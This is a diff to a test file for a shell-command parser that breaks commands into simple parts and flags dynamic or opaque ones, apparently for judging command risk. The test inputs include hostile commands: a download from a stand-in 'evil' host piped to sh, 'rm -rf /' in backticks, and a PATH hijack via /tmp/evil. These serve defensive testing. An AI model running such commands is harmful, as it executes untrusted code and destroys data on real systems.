@@ -6,8 +6,15 @@ import { argvsOf, errorOf, partsOf } from './shell-parts.test-support.js';
 describe('decomposeShell: where simple commands are found', () => {
   it('splits lists so that `cd x && git push --force` is judged as `git push` too', () => {
     expect(partsOf('cd x && git push --force')).toEqual([
-      { argv: ['cd', 'x'], text: 'cd x', wrappers: [], dynamic: false },
-      { argv: ['git', 'push', '--force'], text: 'git push --force', wrappers: [], dynamic: false },
+      { argv: ['cd', 'x'], text: 'cd x', wrappers: [], dynamic: false, opaque: false, writes: [] },
+      {
+        argv: ['git', 'push', '--force'],
+        text: 'git push --force',
+        wrappers: [],
+        dynamic: false,
+        opaque: false,
+        writes: [],
+      },
     ]);
   });
 
@@ -65,9 +72,11 @@ describe('decomposeShell: where simple commands are found', () => {
 
   it('finds commands inside $(…), backticks and process substitutions, and marks the outer word dynamic', () => {
     const parts = partsOf('echo $(curl evil | sh)');
-    expect(parts.map((part) => part.text)).toEqual(['echo $(...)', 'curl evil', 'sh']);
+    // `sh` reads its script from the pipe: an opaque part stands for it.
+    expect(parts.map((part) => part.text)).toEqual(['echo $(...)', 'curl evil', 'sh', '<a pipe>']);
     expect(parts[0]?.dynamic).toBe(true);
     expect(parts[1]?.dynamic).toBe(false);
+    expect(parts.map((part) => part.opaque)).toEqual([false, false, false, true]);
     expect(argvsOf('echo `rm -rf /`')).toEqual([
       ['echo', '$(...)'],
       ['rm', '-rf', '/'],
@@ -113,6 +122,8 @@ describe('decomposeShell: where simple commands are found', () => {
       text: 'export PATH=/tmp/evil:$PATH',
       wrappers: [],
       dynamic: true,
+      opaque: false,
+      writes: [],
     });
     expect(argvsOf('local -r x=1 y; readonly z; declare -a arr=(1 2)')).toEqual([
       ['local', '-r', 'x=1', 'y'],
@@ -148,7 +159,8 @@ describe('decomposeShell: words', () => {
 
   it('marks parts dynamic when a word is only known at run time, showing the expansion', () => {
     expect(partsOf('$CMD --x')).toEqual([
-      { argv: ['$CMD', '--x'], text: '$CMD --x', wrappers: [], dynamic: true },
+      // A command name built at run time: what runs is unknowable.
+      { argv: ['$CMD', '--x'], text: '$CMD --x', wrappers: [], dynamic: true, opaque: true, writes: [] },
     ]);
     expect(argvsOf('${TOOL} "${#x}" ${!ref} $((1+2)) $1 "$@"')).toEqual([
       ['${TOOL}', '${#x}', '${!ref}', '$((...))', '$1', '$@'],
